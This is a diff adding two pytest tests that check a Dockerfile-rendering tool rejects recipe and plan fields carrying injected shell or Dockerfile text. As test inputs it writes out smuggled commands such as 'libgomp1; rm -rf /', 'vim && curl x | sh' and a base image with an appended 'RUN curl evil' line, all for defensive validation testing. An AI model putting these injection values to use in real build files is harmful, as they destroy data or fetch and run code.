@@ -343,3 +343,42 @@ def test_cache_is_used_and_invalidated_by_an_edit(tmp_path: Path, monkeypatch: p
     mod._load.cache_clear()
     assert load_recipes(folder).get("demo").title == "Demo 2"
     mod._load.cache_clear()
+
+
+def test_docker_fields_that_reach_a_dockerfile_are_plain_names(tmp_path) -> None:  # noqa: ANN001
+    # system_packages go into an apt-get RUN line and images into FROM: shell or Dockerfile text is refused
+    # with the file and key, before anything is rendered.
+    from fwsetup.recipes import validate_dir
+
+    good = (shipped_recipes_dir() / "pytorch.toml").read_text()
+    bad = good.replace(
+        'name = "pytorch"', 'name = "pytorch"', 1
+    ) + '''
+[[builds]]
+version = "9.9.9"
+variant = "cpu"
+requirements = ["torch==9.9.9"]
+docker = { base_image = "debian:12\\nRUN curl evil", system_packages = ["libgomp1; rm -rf /"] }
+'''
+    (tmp_path / "pytorch.toml").write_text(bad)
+    _loaded, problems = validate_dir(tmp_path)
+    text = "\n".join(str(p) for p in problems)
+    assert "docker.base_image" in text and "image reference" in text
+    assert "docker.system_packages[0]" in text and "Debian package name" in text
+
+
+def test_render_refuses_a_plan_with_shell_text_and_a_bad_base() -> None:
+    from fwsetup.backends.docker import check_renderable, choose_base
+    from fwsetup.errors import UsageError
+    from fwsetup.plan import Plan, SmokeSpec
+    from fwsetup.recipes import DockerSpec
+
+    plan = Plan(
+        status="ok", framework="pytorch", version="2.13.0", variant="cpu", python="3.11",
+        smoke=SmokeSpec(script="pytorch"), docker=DockerSpec(system_packages=["vim && curl x | sh"]),
+    )  # fmt: skip
+    with pytest.raises(UsageError, match="Debian package names"):
+        check_renderable(plan)
+    with pytest.raises(UsageError, match="--base"):
+        choose_base(plan, "debian:12 AS x\nRUN id")
+    assert choose_base(plan, "fwsetup/bookworm-base:latest") == ("fwsetup/bookworm-base:latest", "--base")
